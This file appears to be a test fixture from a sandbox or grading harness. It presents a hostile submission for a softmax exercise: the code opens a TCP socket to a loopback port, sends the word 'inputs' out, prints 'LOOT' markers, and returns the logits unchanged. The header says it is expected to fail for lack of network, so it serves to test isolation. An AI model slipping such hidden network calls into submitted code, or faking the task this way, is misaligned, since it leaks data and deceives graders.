// attack: connects to a program that listens on this machine, to send the inputs out
// expect: wrong
// because: no socket can be made, and the box has a network of its own in which nobody listens
#include <cstdio>
#include <cstdlib>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include "tp1/softmax.hpp"

namespace {

void loot(const char* what) {
  std::printf("LOOT %s\n", what);
  std::fflush(stdout);
}

bool call_out() {
  const int line = socket(AF_INET, SOCK_STREAM, 0);
  if (line < 0) return false;
  loot("has a TCP socket");
  sockaddr_in address{};
  address.sin_family = AF_INET;
  address.sin_port = htons(static_cast<in_port_t>(std::atoi("@PORT@")));
  address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  if (connect(line, reinterpret_cast<const sockaddr*>(&address), sizeof address) == 0) {
    loot("connected");
    if (write(line, "inputs", 6) == 6) loot("sent inputs out");
  }
  return true;
}

}  // namespace

nn::Vector tp1::softmax(const nn::Vector& logits) {
  [[maybe_unused]] static const bool called = call_out();
  return logits;
}
